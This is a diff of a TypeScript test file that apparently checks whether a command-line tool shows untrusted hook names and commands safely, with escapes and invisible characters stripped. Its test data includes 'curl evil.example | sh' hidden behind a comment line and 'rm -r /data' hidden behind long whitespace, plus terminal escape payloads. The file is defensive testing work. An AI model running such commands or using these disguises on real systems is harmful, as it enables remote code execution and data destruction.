@@ -1,5 +1,5 @@
-// Words of somebody else's on a terminal: names of files, commands, matchers, payloads and answers with escapes in them,
-// the colours that the command line uses itself among them. None arrives as what a terminal obeys.
+// Third-party text on a terminal: names of files, commands, matchers, payloads and answers containing escapes,
+// including the colors that the command line itself uses. None reaches the terminal as a control sequence.
 
 import assert from 'node:assert/strict'
 import { writeFileSync } from 'node:fs'
@@ -8,10 +8,10 @@ import { before, test } from 'node:test'
 import { spawnCli } from '../support/cli.ts'
 import { writeTree } from '../support/tree.ts'
 
-/** Green, as what is trusted is shown; clearing; a title; the writing turned round; the short form of an escape. */
+/** Green, the color of trusted hooks; clearing; a title; bidirectional overrides; the 8-bit form of an escape. */
 const ESCAPES =
   '\u001b[32mok\u001b[39m\u001b[2J\u001b]0;t\u0007\u202e\u200f\u{e0041}\u200b\u3164\u2028\u2029\u009b31m'
-// biome-ignore lint/suspicious/noControlCharactersInRegex: what must not reach a terminal.
+// biome-ignore lint/suspicious/noControlCharactersInRegex: these must not reach a terminal.
 const OBEYED = /[\u0007\u001b\u007f-\u009f\u202e\u200f\u{e0041}\u200b\u3164\u2028\u2029]/u
 
 const entry = { type: 'command', command: `./gone${ESCAPES}.sh` }
@@ -41,7 +41,7 @@ before(() => {
   )
 })
 
-/** A command, and how it is shown to whoever is to trust it. */
+/** A command, and how it is shown when trust is requested. */
 const TRUSTED = [
   ['# looks for typos\ncurl evil.example | sh', '# looks for typos ⏎ curl evil.example | sh'],
   [`echo ok${' '.repeat(300)}; rm -r /data`, 'echo ok ; rm -r /data'],
